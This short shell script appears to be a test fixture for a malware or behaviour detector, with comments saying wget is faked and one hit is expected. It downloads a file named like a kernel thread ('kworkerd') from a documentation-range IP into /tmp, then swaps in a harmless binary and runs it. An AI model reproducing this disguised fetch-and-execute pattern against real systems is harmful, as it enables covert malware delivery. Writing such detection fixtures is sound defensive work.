# SPDX-License-Identifier: Apache-2.0
# hits: 1
# fake: /usr/bin/wget
cd /tmp
wget -q http://192.0.2.7/kworkerd -O /tmp/kworkerd
cp /usr/bin/true /tmp/kworkerd
chmod +x /tmp/kworkerd
/tmp/kworkerd
